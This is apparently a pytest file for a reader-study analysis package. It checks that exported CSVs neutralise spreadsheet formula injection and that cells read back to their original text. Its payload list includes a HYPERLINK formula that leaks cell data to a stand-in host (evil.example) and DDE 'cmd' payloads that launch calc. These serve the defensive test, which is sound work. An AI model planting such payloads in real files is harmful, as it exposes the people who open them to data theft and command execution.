"""Spreadsheet formula injection: no CSV the study writes has a text cell starting with a formula trigger.

The trigger characters are OWASP's (https://owasp.org/www-community/attacks/CSV_Injection): ``=``, ``+``, ``-``,
``@``, tab, carriage return, line feed. Numbers stay numbers (``-1`` is written as ``-1``) and the study's own reader
of ``reads_long.csv`` gets the original text back.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from readerstudy.analysis import analyze
from readerstudy.analysis.analyze import analyze_reads
from readerstudy.analysis.simulate import simulate_study
from readerstudy.store.coordinator_api import export_reads_csv, lock_study
from readerstudy.store.csv_safety import FORMULA_TRIGGERS, neutralise_cell, restore_cell
from readerstudy.store.engine import StudyDB
from readerstudy.store.long_table import (
    LONG_TABLE_COLUMNS,
    LONG_TABLE_TYPED_COLUMNS,
    load_long_table,
    read_long_table_csv,
)
from readerstudy.store.reader_api import ReadAnswers, submit_read

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    "note\r=1+2",  # a bare CR inside a value must not start a new row
    "'=already quoted",
    'quoted "text", with a comma;=1+2',
]


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+2", "'=1+2"),
        ("+1", "'+1"),
        ("-1", "'-1"),  # as text (a reader's comment); numeric cells are never passed through here
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("\nx", "'\nx"),
        ("'x", "''x"),  # escaped too, so that reading back is unambiguous
        ("plain text", "plain text"),
        ("a=b", "a=b"),
        ("", ""),
        (-1, -1),
        (None, None),
    ],
)
def test_neutralise_cell(cell: object, expected: object) -> None:
    assert neutralise_cell(cell) == expected


@given(st.text())
def test_neutralised_text_never_starts_with_a_trigger_and_round_trips(text: str) -> None:
    safe = neutralise_cell(text)
    assert safe[:1] not in FORMULA_TRIGGERS
    assert restore_cell(safe) == text


def _cells_starting_with_a_trigger(csv_text: str) -> list[tuple[str, str]]:
    """(column, cell) of every cell that starts with a trigger, read as a spreadsheet would (RFC 4180)."""
    rows = list(csv.reader(io.StringIO(csv_text)))
    header = rows[0]
    return [(header[i] if i < len(header) else "?", cell) for row in rows[1:] for i, cell in enumerate(row)
            if cell[:1] in FORMULA_TRIGGERS]  # fmt: skip


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_coordinator_export_is_safe_and_round_trips(make_study: Callable[..., StudyDB]) -> None:
    db = make_study(n_cases=len(PAYLOADS))
    for order, payload in enumerate(PAYLOADS):
        submit_read(
            db, "r1", order, ReadAnswers({"diagnostic clarity": "A"}, likert_a=1, reason=payload), None
        )
    lock_study(db, "coord")
    exported = export_reads_csv(db, "coord")
    table = load_long_table(db)

    dangerous = _cells_starting_with_a_trigger(exported)
    assert all(column in LONG_TABLE_TYPED_COLUMNS and _is_number(cell) for column, cell in dangerous), (
        dangerous
    )
    reasons = [
        row["reason"] for row in csv.DictReader(io.StringIO(exported))
    ]  # one row per read: no CR split
    assert reasons == [("'" + p if p[:1] in (*FORMULA_TRIGGERS, "'") else p) for p in table["reason"]]
    assert sorted(table["reason"]) == sorted(payload.strip() for payload in PAYLOADS)

    back = read_long_table_csv(io.StringIO(exported))
    assert list(back.columns) == LONG_TABLE_COLUMNS
    for column in ("reader_id", "case_id", "site", "reason", "choice", "ai_side", "error_flags"):
        assert back[column].tolist() == table[column].tolist(), column
    for column in ("preference_vs_ai", "likert_ai", "likert_original", "version", "order_index"):
        assert back[column].tolist() == table[column].tolist(), column
    assert (back["preference_vs_ai"] == -1).any() or (back["preference_vs_ai"] == 1).any()
    pd.testing.assert_series_equal(back["submitted_at"], table["submitted_at"])


def _hostile_reads() -> pd.DataFrame:
    """A simulated study whose free-text values are formula payloads; -1 preferences stay numbers."""
    df = simulate_study(3, 12, 2, 0.4, 0.3, 0.2, 0.6)
    df["reader_id"] = df["reader_id"].map({"reader_01": "=r1", "reader_02": "-r2", "reader_03": "reader_03"})
    df["case_id"] = "@" + df["case_id"]
    df["site"] = "+" + df["site"]
    df["reason"] = [PAYLOADS[i % len(PAYLOADS)] for i in range(len(df))]
    df["normal_abnormal"] = "-" + df["normal_abnormal"]
    return df


def test_analysis_csvs_are_safe_and_reads_long_round_trips(tmp_path: Path) -> None:
    df = _hostile_reads()
    assert (df["preference_vs_ai"] == -1).sum() > 0
    result = analyze(df, tmp_path, {"seed": 1}, n_boot=0)
    for name in ("reads_long.csv", "imrmc.csv", "mrmcaov.csv"):
        text = (tmp_path / name).read_bytes().decode("utf-8")  # as written: no newline translation
        start = text.index("BEGIN DATA:") if name == "imrmc.csv" else 0  # iMRMC: free header lines first
        dangerous = _cells_starting_with_a_trigger(text[start:])
        assert all(_is_number(cell) for _, cell in dangerous), (name, dangerous)

    written = list(csv.DictReader(io.StringIO((tmp_path / "reads_long.csv").read_bytes().decode("utf-8"))))
    assert {row["preference_vs_ai"] for row in written} == {"-1", "0", "1"}  # numbers, never neutralised
    assert {row["reader_id"] for row in written} == {"'=r1", "'-r2", "reader_03"}

    back = read_long_table_csv(tmp_path / "reads_long.csv")
    assert sorted(set(back["reader_id"])) == ["-r2", "=r1", "reader_03"]
    assert back["preference_vs_ai"].dtype.kind == "i" and set(back["preference_vs_ai"]) == {-1, 0, 1}
    again = analyze_reads(back, {"seed": 1}, n_boot=0)
    assert json.dumps(again, sort_keys=True) == json.dumps(
        {k: v for k, v in result.items() if k != "audit_chain"}, sort_keys=True
    )
    mrmcaov = pd.read_csv(tmp_path / "mrmcaov.csv")
    assert {"'=r1", "'-r2", "reader_03"} == set(mrmcaov["reader"])
    assert mrmcaov["rating"].between(0, 1).all() and mrmcaov["case"].str.startswith(("'@", "_anchor")).all()
